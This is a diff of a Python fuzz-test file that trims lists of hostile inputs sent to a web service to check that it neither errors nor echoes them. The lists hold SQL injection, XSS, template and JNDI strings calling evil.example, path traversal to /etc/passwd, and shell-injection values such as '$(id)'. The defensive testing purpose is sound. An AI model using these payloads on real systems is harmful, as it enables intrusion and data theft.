@@ -16,56 +16,41 @@ from tests.support.catalogue import Place, write_catalogue
 from tests.support.postgres import new_database
 from tests.support.wire import Live, environment, run, send, serving
 
+# A few of each kind: what is bound, escaped or refused is so whatever the input says.
 SQL = [
-    "'", '"', "''", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "1; DROP TABLE localities--", "1') OR ('1'='1",
-    "' UNION SELECT usename, passwd FROM pg_shadow--", "1 AND pg_sleep(10)", "'||pg_sleep(10)--", "1/**/OR/**/1=1",
-    "'; COPY (SELECT 1) TO PROGRAM 'id'--", "\\'; SELECT 1--", "$$;SELECT 1;$$", "%' AND 1=CAST(version() AS int)--",
-    "x' AND 1=(SELECT count(*) FROM pg_class)--", "`id`", "1e0", "0x27", "_%_%_%_%", "\\", "E'\\047'", ":release_id",
-    "$1", "ARRAY[1]", "{1,2}", "a & b | !c", "a:*", "(((((((((((", "'a' <-> 'b'",
+    "'", '"', "' OR '1'='1", '" OR ""="', "1; DROP TABLE localities--", "' UNION SELECT * FROM pg_shadow--",
+    "'||pg_sleep(10)--", "1/**/OR/**/1=1", "\\'; SELECT 1--", "$$;SELECT 1;$$", "_%_%_%_%", "\\", "E'\\047'",
+    ":release_id", "$1", "{1,2}", "a & b | !c", "a:*", "(((((((((((", "'a' <-> 'b'",
 ]  # fmt: skip
 HTML = [
     "<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "</title><script>alert(1)</script>",
-    "<!--<script>alert(1)//-->", "<a href=//evil.example>", "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>", '" onfocus=alert(1) autofocus="', "<base href=//evil.example>",
-    "&lt;script&gt;", "&#x3c;script&#x3e;", "<math><mtext></form><form>", "</script><script>1</script>",
-    "<style>@import'//e'</style>", "]]><x>",
-    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "<%= 7*7 %>",
+    "</title><script>alert(1)</script>", "<!--<script>alert(1)//-->", "javascript:alert(1)",
+    '" onfocus=alert(1) autofocus="', "&lt;script&gt;", "<math><mtext></form><form>", "]]><x>",
 ]  # fmt: skip
 TEMPLATES = [
-    "{{7*7}}", "${7*7}", "#{7*7}", "{{config}}", "{{''.__class__.__mro__}}", "{% include '/etc/passwd' %}",
-    "${{7*7}}", "@(7*7)", "{{request.application.__globals__}}", "{0.__class__}", "%s%s%s%n", "%(password)s",
-    "%x%x%x%x", "{}", "{0}", "{password}", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/a}",
-    "${env:DATABASE_URL}", "__import__('os').system('id')", '{"$gt":""}', '{"__proto__":{"x":1}}', "__proto__",
-    "constructor.prototype", "!!python/object/apply:os.system ['id']",
+    "{{7*7}}", "${7*7}", "{{''.__class__.__mro__}}", "{% include '/etc/passwd' %}", "{0.__class__}", "%s%s%s%n",
+    "%(password)s", "{}", "{0}", "{password}", "${jndi:ldap://evil.example/a}", '{"$gt":""}', "__proto__", "; id",
+    "$(id)", "\n/bin/id", "--help", "> /tmp/x",
 ]  # fmt: skip
-PATHS = [
-    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd",
-    "file:///etc/passwd", "..;/..;/", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "%252e%252e%252f", "..%c0%af..%c0%afetc",
-    "C:\\boot.ini", "\\\\evil.example\\a", "//evil.example", "/\\evil.example", "https://evil.example/",
-    "http://169.254.169.254/latest/", ".git/config", "./.", "~root", "a/../b", "?page=2", "#top", ";jsessionid=1",
+PLACES = [
+    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "..;/..;/",
+    "..%2f..%2fetc%2fpasswd", "%252e%252e%252f", "..%c0%af..%c0%afetc", "C:\\boot.ini", "\\\\evil.example\\a",
+    "//evil.example", "/\\evil.example", "https://evil.example/", "a/../b", "?page=2", "#top", ";jsessionid=1",
     "&page=2", "page=2&page=3",
 ]  # fmt: skip
-SHELL = [
-    "; id", "| id", "&& id", "$(id)", "`id`;", "|| true", "() { :;}; echo x", "\n/bin/id",
-    "& ping -c 1 evil.example &", "-oProxyCommand=id", "--help", "> /tmp/x",
-]  # fmt: skip
 CONTROL = [
-    "\x00", "1\x00", "\x00'", "a\x00b", "\r\n", "\r\nSet-Cookie: a=b", "\r\nX-Injected: 1", "\n\nbody", "\r", "\n",
-    "\t", "\x0b\x0c", "\x1b[2J", "\x1b]0;title\x07", "\x7f", "\x08\x08", "\x85", "\u2028", "\u2029",
-    "%0d%0aX-Injected:1", "%E5%98%8A%E5%98%8DX-Injected:1",
+    "\x00", "1\x00", "a\x00b", "\r\n", "\r\nSet-Cookie: a=b", "\r\nX-Injected: 1", "\n\nbody", "\r", "\n", "\t",
+    "\x0b\x0c", "\x1b[2J", "\x7f", "\x85", "\u2028", "%0d%0aX-Injected:1", "%E5%98%8A%E5%98%8DX-Injected:1",
 ]  # fmt: skip
 UNICODE = [
-    "١", "１", "१", "²", "½", "Ⅷ", "1\u00a0", "\u200b1", "\ufeff1", "1\u202e2", "\u202etxt.exe", "\u2066a\u2069",
-    "\u200f\u200e", "\U0001f4a9", "\U0010ffff", "\ufffe", "\ufdd0", "e\u0301" * 40, "a" + "\u0300" * 80,
-    "\ufdfa" * 30, "ﬀ", "ı", "İ", "ß" * 80, "ǅ", "＜script＞", "ʺ＞", "ａ", "ﷺ", "𝟙", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
-    "שָׁלוֹם", "田中さん", "\U000e0001\U000e0041",
+    "١", "１", "²", "½", "1\u00a0", "\u200b1", "\ufeff1", "1\u202e2", "\u2066a\u2069", "\U0001f4a9", "\U0010ffff",
+    "\ufffe", "e\u0301" * 40, "a" + "\u0300" * 80, "\ufdfa" * 30, "ﬀ", "ı", "İ", "ß" * 80, "＜script＞", "ﷺ", "שָׁלוֹם",
+    "田中さん", "\U000e0001\U000e0041",
 ]  # fmt: skip
 NUMBERS = [
-    "0", "-0", "-1", "+1", "1.0", "1e3", "1e309", "-1e309", "NaN", "nan", "Infinity", "-inf", "0x10", "0o7", "1_000",
-    "1,000", " 1", "1 ", "01", "2147483647", "2147483648", "-2147483649", "4294967296", "9007199254740993",
-    "9223372036854775807", "9223372036854775808", "18446744073709551616", "9" * 400, "0" * 400,
-    "0." + "0" * 300 + "1", "90.0000001", "-180.5", "1e-400", "", " ", "null", "true", "[]", "undefined",
+    "0", "-0", "-1", "+1", "1.0", "1e3", "1e309", "NaN", "Infinity", "-inf", "0x10", "1_000", "1,000", " 1", "1 ", "01",
+    "2147483647", "2147483648", "-2147483649", "9007199254740993", "9223372036854775808", "9" * 400, "0" * 400,
+    "0." + "0" * 300 + "1", "90.0000001", "-180.5", "1e-400", "", " ", "null", "[]",
 ]  # fmt: skip
 LONG = ["a" * 3000, "%" * 500, "(" * 1000, "a," * 1000, "'" * 500, "\u00f1" * 500, "a b " * 500]
 
@@ -75,7 +60,7 @@ BYTES = [
     b"\xed\xa0\xbd\xed\xb2\xa9", b"\xff", b"\xfe\xff", b"\x80", b"\xc3", b"\xe2\x82", b"\xf0\x9f\x92",
     b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xc3\x28", b"a\xffb",
 ]  # fmt: skip
-TEXTS = [*SQL, *HTML, *TEMPLATES, *PATHS, *SHELL, *CONTROL, *UNICODE, *NUMBERS, *LONG]
+TEXTS = [*SQL, *HTML, *TEMPLATES, *PLACES, *CONTROL, *UNICODE, *NUMBERS, *LONG]
 INPUTS = list(dict.fromkeys([*(text.encode() for text in TEXTS), *BYTES]))
 
 
@@ -184,7 +169,7 @@ def live(server: str, migrated: str, tmp_path_factory: pytest.TempPathFactory) -
             yield live
 
 
-# 53 is coprime to the 232 inputs: each place gets a different share, and together they get all.
+# 53 is a prime: each place gets a different share of the inputs, and together they get all.
 @pytest.mark.parametrize("each", [53, pytest.param(1, marks=[pytest.mark.tail, pytest.mark.timeout(600)])])
 @pytest.mark.parametrize("sent", [in_parameters, in_names_of_parameters, in_paths, in_headers])
 def test_hostile_input_is_never_a_500_nor_echoed(
